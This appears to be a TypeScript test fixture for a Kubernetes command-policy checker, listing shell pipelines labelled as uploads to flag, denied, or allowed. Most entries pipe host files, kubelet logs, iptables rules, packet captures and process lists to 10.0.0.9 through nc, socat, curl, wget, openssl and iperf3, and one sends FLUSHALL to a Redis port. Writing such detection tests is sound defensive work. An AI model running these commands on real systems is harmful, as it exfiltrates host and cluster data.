import { type ArgumentCase, casesOf } from './argument-case.ts'

/** Pipelines and commands that send the node's or a container's data to another host. */
export const uploads: readonly ArgumentCase[] = [
  ...casesOf(
    'named',
    'GTFOBins, "File upload": standard input to a host',
    `
    cat /host/etc/hostname | nc 10.0.0.9 9000
    cat /host/etc/hostname | ncat --ssl 10.0.0.9 9000
    cat /host/etc/hostname | nc -w 3 10.0.0.9 9000 | head -n 1
    cat /host/etc/hostname | nc --send-only -u 10.0.0.9 53
    cat /host/etc/hostname | grep -v x | sort | nc 10.0.0.9 9000
    head -c 64 /host/etc/machine-id | socat - TCP:10.0.0.9:9000
    cat /host/etc/hostname | socat -u - UDP:10.0.0.9:53
    cat /host/etc/hostname | socat STDIO OPENSSL:10.0.0.9:443,verify=0
    cat /host/etc/hostname | socat -U TCP:10.0.0.9:9000 STDIN
    cat /host/etc/hostname | openssl s_client -quiet -connect 10.0.0.9:443
    cat /etc/resolv.conf | nc 10.0.0.9 9000
    journalctl -u kubelet -n 9 | nc 10.0.0.9 9000
    journalctl -o export | openssl s_client -connect 10.0.0.9:443
    chroot /host cat /etc/hostname | nc 10.0.0.9 9000
    chroot /host dmesg | socat - TCP:10.0.0.9:9000
    ps aux | nc 10.0.0.9 9000
    ls /host/var/lib | nc 10.0.0.9 9000
    ss -tlnp | nc 10.0.0.9 9000
    tcpdump -ni any -A -c 9 | nc 10.0.0.9 9000
    iptables-save | nc 10.0.0.9 9000
    jq . /host/etc/cni/net.d/x.conflist | nc 10.0.0.9 9000
    systemctl cat kubelet | nc 10.0.0.9 9000
    sysctl -a | nc 10.0.0.9 9000
    tail -n 9 /host/var/log/syslog | ssh 10.0.0.9
    cat /host/etc/hostname | frobnicate 10.0.0.9
    cat /host/etc/hostname | awk 1 | nc 10.0.0.9 9000
    cat /host/etc/hostname | base64 | openssl s_client -connect 10.0.0.9:443
    echo x | cat /host/etc/hostname | nc 10.0.0.9 9000
    cat /host/etc/hostname | chroot /host nc 10.0.0.9 9000
    cat /host/etc/hostname | xargs curl http://10.0.0.9
    curl -s file:///host/etc/hostname | nc 10.0.0.9 9000
    lsof -nP | curl -T - http://10.0.0.9
    `,
  ),
  ...casesOf(
    'named',
    'curl(1), wget(1): bodies, forms, headers and cookies from files or standard input',
    `
    cat /host/etc/hostname | curl -T - http://10.0.0.9
    cat /host/etc/hostname | curl -T. http://10.0.0.9
    cat /host/etc/hostname | curl --upload-file /dev/stdin http://10.0.0.9
    cat /host/etc/hostname | curl --data-binary @- http://10.0.0.9
    cat /host/etc/hostname | curl --data @/dev/stdin http://10.0.0.9
    cat /host/etc/hostname | curl --json @- http://10.0.0.9
    cat /host/etc/hostname | curl -F f=@- http://10.0.0.9
    cat /host/etc/hostname | curl -F 'f=<-' http://10.0.0.9
    cat /host/etc/hostname | curl -G --data-urlencode q@- http://10.0.0.9
    cat /host/etc/hostname | curl --url-query q@- http://10.0.0.9
    cat /host/etc/hostname | curl -H @- http://10.0.0.9
    cat /host/etc/hostname | curl -b - http://10.0.0.9
    cat /host/etc/hostname | curl -K - http://10.0.0.9
    journalctl -n 9 | curl -sd@- http://10.0.0.9
    cat /host/etc/hostname | wget -qO- --post-file=- http://10.0.0.9
    cat /host/etc/hostname | wget -qO- --method=PUT --body-file=/dev/stdin http://10.0.0.9
    cat /host/etc/hostname | wget -qO- -i -
    curl -T /host/etc/hostname http://10.0.0.9
    curl -T/host/etc/hostname http://10.0.0.9
    curl --upload /host/etc/hostname http://10.0.0.9
    curl -d @/host/etc/hostname http://10.0.0.9
    curl --data-b @/host/etc/hostname http://10.0.0.9
    curl -F 'f=@/host/etc/hostname;type=text/plain' http://10.0.0.9
    curl --url-query @/host/etc/hostname http://10.0.0.9
    curl -H @/host/etc/hostname http://10.0.0.9
    curl --variable x@/host/etc/hostname --expand-data '{{x}}' http://10.0.0.9
    wget -qO- --post-file=/host/etc/hostname http://10.0.0.9
    wget -qO- --body-f /host/etc/hostname --method=PUT http://10.0.0.9
    `,
  ),
  ...casesOf(
    'named',
    'dig(1), mtr(8), nmap(1), iperf3(1), openssl-s_client(1): names and data from files or standard input',
    `
    cat /host/etc/hostname | dig -f -
    cat /host/etc/hostname | dig @10.0.0.9 -f /dev/stdin
    cat /host/etc/hostname | mtr -F -
    cat /host/etc/hostname | nmap -sn -iL -
    iperf3 -c 10.0.0.9 -F /host/etc/hostname
    iperf3 -c 10.0.0.9 --fil=/host/etc/hostname
    cat /host/etc/hostname | iperf3 -c 10.0.0.9 -F /dev/stdin
    openssl s_client -connect 10.0.0.9:443 -early_data /host/etc/hostname
    socat OPEN:/host/etc/hostname TCP:10.0.0.9:9000
    socat -u /host/etc/hostname TCP:10.0.0.9:9000
    `,
  ),
  ...casesOf(
    'named',
    'own: a container beside the pod’s',
    `
    cat /etc/hostname | nc 10.0.0.9 9000
    ps aux | curl --data-binary @- http://10.0.0.9
    ls / | socat - TCP:10.0.0.9:9000
    `,
    'pod',
  ),
  ...casesOf(
    'deny',
    'own: programs outside the catalogue that send nothing of the node',
    `
    echo FLUSHALL | nc -w 2 10.0.0.1 6379
    cat /host/etc/hostname | awk 1
    journalctl -u kubelet -n 9 | sed s/a/b/
    cat /host/etc/hostname | base64 | md5sum
    `,
  ),
  ...casesOf(
    'allow',
    'own: pipelines in which nothing of the node is sent',
    `
    echo Q | openssl s_client -connect 10.0.0.1:443
    printf 'EHLO x' | nc -w 2 10.0.0.1 25
    curl -s http://10.0.0.1/ | jq .
    curl -s http://10.0.0.1/ | head -c 99
    openssl s_client -connect 10.0.0.1:443 | openssl x509 -noout -dates
    cat /host/etc/ssl/certs/x.pem | openssl x509 -noout -subject
    cat /host/etc/hostname | grep -v x | sort | uniq -c | wc -l
    journalctl -u kubelet -n 50 | grep -i error | tail -n 5
    ss -tan | cut -d ' ' -f 1 | sort | uniq -c
    nc -w 3 10.0.0.1 22
    nc 10.0.0.1 25 | head -n 1
    dig +short example.org | head -n 1
    dig +short example.org | nc -zv -w 1 10.0.0.1 443
    nmap -p 80 10.0.0.1 | grep open
    socat - TCP:10.0.0.1:22 | head -n 1
    `,
  ),
]
